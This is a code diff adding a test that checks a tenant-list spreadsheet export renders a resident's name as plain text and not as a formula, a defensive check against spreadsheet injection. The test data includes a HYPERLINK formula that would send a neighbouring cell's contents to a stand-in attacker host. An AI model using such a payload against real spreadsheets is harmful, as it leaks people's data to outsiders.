@@ -181,3 +181,20 @@ def test_error_pages_tell_nothing_about_the_server(client_for, front_desk, monke
         html = response.content.decode()
         assert "hunter2" not in html and "Traceback" not in html and "/srv/" not in html
         assert "SECRET_KEY" not in html and "DATABASES" not in html
+
+
+def test_exported_text_is_never_a_formula(client_for, manager, occupancy):
+    """A name typed as `=HYPERLINK(...)` (at the desk, or in an imported register) is text
+    in the manager's workbook, not a live link or a calculation."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    resident = occupancy.resident
+    resident.name = '=HYPERLINK("http://evil.example.com/?"&A2,"Open")'
+    resident.save(update_fields=["name"])
+    response = client_for(manager).get(reverse("tenants:tenant_list_export"))
+    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    name = sheet[2][header.index("Name")]
+    assert (name.value, name.data_type) == (resident.name, "s")
